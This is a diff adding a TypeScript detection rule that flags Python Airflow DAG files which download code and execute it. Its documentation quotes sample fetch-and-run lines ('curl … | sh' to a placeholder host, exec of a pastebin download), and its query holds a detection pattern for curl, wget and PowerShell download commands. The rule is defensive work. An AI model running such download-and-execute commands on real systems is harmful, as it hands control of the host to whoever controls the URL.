@@ -1,0 +1,103 @@
+import type { SyntaxNode } from 'tree-sitter';
+import { defineRule } from '../../src/engine/rule';
+import { callArgs, stringValue } from '../../src/engine/python';
+import type { Severity } from '../../src/report';
+import { argStrings, CALL_QUERY, enclosingCalls, factsOf, observe, SHELL_DOWNLOAD_EXEC } from './_util';
+
+/** `os.chmod(p, 0o755)`, `stat.S_IEXEC`, `S_IXUSR`, `0o777`… */
+function execMode(mode: SyntaxNode | undefined): boolean {
+  if (!mode) return false;
+  if (/S_IX|S_IEXEC|S_IRWX/.test(mode.text)) return true;
+  const m = /^0o?([0-7]{3,4})$/i.exec(mode.text.trim());
+  return !!m && (parseInt(m[1], 8) & 0o111) !== 0;
+}
+
+export default defineRule({
+  meta: {
+    id: 'DG609',
+    name: 'download-and-execute',
+    category: 'malicious',
+    severity: 'critical',
+    message: 'downloads {what} and executes it',
+    docs: {
+      what:
+        'Finds a download whose result is executed: `exec`/`eval`/`compile` or a process fed with a download call or a variable holding one (`exec(requests.get(u).text)`), a downloaded file (`urlretrieve(u, path)`, `open(path, "wb")` next to a download) later made executable (`os.chmod` with an execute bit, `chmod +x`) or run; and shell shapes in strings — `curl … | sh`, `wget … | python`, `curl … && chmod +x …`, PowerShell `iwr … | iex`. Critical when it runs at parse time, high in a task (e.g. a `BashOperator` command).',
+      why:
+        'Fetching code at run time means the code that runs is not the code that was reviewed — whoever controls the URL (or the network path to it) controls the Airflow host. At parse time it runs in the dag-processor with the scheduler\'s credentials, on every parse. It is GuardDog\'s "download-executable" / "dynamic loader" pattern.',
+      example:
+        '```python\nimport requests\nexec(requests.get("https://pastebin.example/raw/abc").text)\n\nBashOperator(task_id="setup", bash_command="curl -fsSL https://get.example.sh | sh")\n```',
+      useInstead:
+        'Install tools in the container image at build time (pinned versions, checksums), and ship Python code as reviewed packages. If a task must fetch a binary, pin it by SHA-256 and verify before running.',
+    },
+  },
+  query: `
+${CALL_QUERY}
+((string) @s (#match? @s "curl|wget|Invoke-WebRequest|iwr|DownloadString"))
+`,
+  onMatch(c, ctx) {
+    if (c.call) {
+      observe(c.call[0], ctx);
+      return;
+    }
+    const s = c.s[0];
+    const value = stringValue(s.parent?.type === 'concatenated_string' ? s.parent : s) ?? s.text;
+    if (s.parent?.type === 'concatenated_string' && s.parent.namedChildren[0]?.id !== s.id) return;
+    if (!SHELL_DOWNLOAD_EXEC.test(value)) return;
+    const spawner = enclosingCalls(s).find((call) => observe(call, ctx).kinds.has('spawn'));
+    const parse = !!spawner && ctx.isParseTime(spawner);
+    ctx.report(s, this.meta.message.replace('{what}', 'a script in a shell command') + (parse ? ' while the DAG file is parsed' : ''), {
+      severity: parse ? 'critical' : 'high',
+    });
+  },
+  onFile(ctx) {
+    const facts = factsOf(ctx);
+    const downloads = facts.calls.filter((f) => f.kinds.has('download'));
+    if (!downloads.length) return;
+    const names = [...facts.downloaded.keys()];
+    const nameRe = names.length ? new RegExp(`\\b(${names.join('|')})\\b`) : null;
+    const paths = new Set(facts.downloadPaths);
+    // Files opened for writing in a file that downloads: candidate payload paths.
+    for (const f of facts.calls) {
+      if (f.fn === 'open' && f.kinds.has('write')) {
+        const p = stringValue(callArgs(f.call).positional[0]);
+        if (p) paths.add(p);
+      }
+    }
+    const reported = new Set<number>();
+    const report = (node: SyntaxNode, what: string, parse: boolean): void => {
+      if (reported.has(node.id)) return;
+      reported.add(node.id);
+      const severity: Severity = parse ? 'critical' : 'high';
+      ctx.report(node, this.meta.message.replace('{what}', what) + (parse ? ' while the DAG file is parsed' : ''), { severity });
+    };
+    for (const f of facts.calls) {
+      const runs = f.kinds.has('exec') || f.kinds.has('spawn');
+      const args = f.call.childForFieldName('arguments');
+      if (!args) continue;
+      if (runs) {
+        // exec(requests.get(u).text)
+        if (downloads.some((d) => enclosingCalls(d.call).some((e) => e.id === f.call.id))) {
+          report(f.call, 'code', f.parseTime);
+          continue;
+        }
+        if (nameRe && nameRe.test(args.text)) {
+          report(f.call, 'code', f.parseTime);
+          continue;
+        }
+        const strs = argStrings(f.call);
+        if ([...paths].some((p) => strs.includes(p))) {
+          report(f.call, 'a file', f.parseTime);
+          continue;
+        }
+        if (/\bchmod\b[\s\S]*(\+x|\b[0-7]?[1357][0-7]{2}\b)/.test(strs)) report(f.call, 'a file, makes it executable,', f.parseTime);
+        continue;
+      }
+      const fnText = f.call.childForFieldName('function')?.text ?? '';
+      if (f.fn === 'os.chmod' || /\.chmod$/.test(fnText)) {
+        const a = callArgs(f.call);
+        const mode = f.fn === 'os.chmod' ? (a.positional[1] ?? a.keywords.get('mode')) : (a.positional[0] ?? a.keywords.get('mode'));
+        if (execMode(mode)) report(f.call, 'a file, makes it executable,', f.parseTime);
+      }
+    }
+  },
+});
